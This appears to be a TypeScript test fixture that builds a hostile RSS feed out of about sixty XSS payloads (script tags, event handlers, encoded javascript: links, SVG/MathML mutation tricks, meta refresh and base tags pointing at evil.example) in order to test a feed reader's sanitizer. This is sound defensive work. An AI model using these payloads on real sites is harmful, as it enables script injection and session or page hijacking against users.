/**
 * Hostile feed payloads (our own corpus, issue 10): each tries to run script, navigate the window or
 * plant an unsafe element when a mention is shown. Every payload that could run calls `alert` or
 * sets `window.__xss`, so the e2e test can see it; the rest would leave an element or attribute the
 * test's DOM scan reports. Used in item text, in titles and in author names.
 */
const JS = "alert(1);window.__xss=1";

export const XSS_VECTORS: string[] = [
  // script
  `<script>${JS}</script>`,
  `<SCRIPT SRC="data:text/javascript,${JS}"></SCRIPT>`,
  `<script src=//127.0.0.1:1/x.js></script>`,
  `<<script>${JS}//<</script>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  // event handlers
  `<img src=x onerror="${JS}">`,
  `<img src="x" ONERROR=${JS}>`,
  `<body onload="${JS}">`,
  `<div onmouseover="${JS}">hover me</div>`,
  `<input autofocus onfocus="${JS}">`,
  `<details open ontoggle="${JS}">`,
  `<video><source onerror="${JS}"></video>`,
  `<audio src=x onerror=${JS}>`,
  `<marquee onstart="${JS}">m</marquee>`,
  `<a href="https://example.com" onclick="${JS}">click</a>`,
  `<p style="x" onpointerenter="${JS}">p</p>`,
  // javascript:, data:, vbscript: links, plain and encoded
  `<a href="javascript:${JS}">js link</a>`,
  `<a href="JaVaScRiPt:${JS}">mixed case</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entities</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">padded entities</a>`,
  `<a href="java&#x09;script:alert(1)">tab inside</a>`,
  `<a href="java&#x0A;script:alert(1)">newline inside</a>`,
  `<a href=" &#14;  javascript:alert(1)">leading control</a>`,
  `<a href="javascript&colon;alert(1)">named colon</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<a href="DATA:text/html,<script>${JS}</script>">data upper</a>`,
  `<a href="vbscript:msgbox(1)">vbscript</a>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<form action="javascript:${JS}"><button>go</button></form>`,
  `<button formaction="javascript:${JS}">b</button>`,
  `<object data="javascript:${JS}"></object>`,
  `<embed src="data:text/html,<script>${JS}</script>">`,
  // SVG
  `<svg onload="${JS}"></svg>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><a xlink:href="javascript:${JS}"><text y="20">svg link</text></a></svg>`,
  `<svg><animate onbegin="${JS}" attributeName="x" dur="1s"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${JS}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName="href" to="javascript:${JS}"/></svg>`,
  // MathML and noscript / mutation XSS
  `<math><mtext><table><mglyph><style><img src=x onerror="${JS}"></style></mglyph></table></mtext></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${JS}">m</maction></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${JS} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  `<listing>&lt;img src=x onerror=${JS}&gt;</listing>`,
  // meta refresh, base, style
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css'; body{background:url("javascript:${JS}")}</style>`,
  `<div style="background-image:url(javascript:${JS})">styled</div>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  // iframe srcdoc, CDATA
  `<iframe srcdoc="&lt;script&gt;${JS}&lt;/script&gt;"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<![CDATA[<script>${JS}</script>]]>`,
  `]]><script>${JS}</script><![CDATA[`,
  // odd parsing
  `<img src="x" alt="\`\`onerror=${JS}">`,
  `<a href="#" title="x" id="x" name="x"></a><img src=x:x onerror=${JS}>`,
  `"><script>${JS}</script>`,
  `'--><script>${JS}</script>`,
  `<template><img src=x onerror=${JS}></template>`,
  `<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>`,
];

const cdata = (s: string): string => `<![CDATA[${s.replace(/]]>/g, ']]]]><![CDATA[>')}]]>`;

/** One RSS 2.0 feed with one item per vector: the vector in the title, the body and the author. */
export function xssFeed(now = new Date()): string {
  const items = XSS_VECTORS.map((v, i) => {
    const at = new Date(now.getTime() - (XSS_VECTORS.length - i) * 60_000).toUTCString();
    return `<item>
  <guid isPermaLink="false">xss-${i}</guid>
  <title>${cdata(`#${i} ${v}`)}</title>
  <link>https://example.com/post/${i}</link>
  <dc:creator>${cdata(`Mallory ${v}`)}</dc:creator>
  <pubDate>${at}</pubDate>
  <description>${cdata(`<p>Vector ${i}:</p>${v}`)}</description>
</item>`;
  }).join('\n');
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
<title>${cdata('<img src=x onerror=alert(1)>Hostile feed')}</title><link>https://example.com/</link><description>xss corpus</description>
${items}
</channel></rss>`;
}
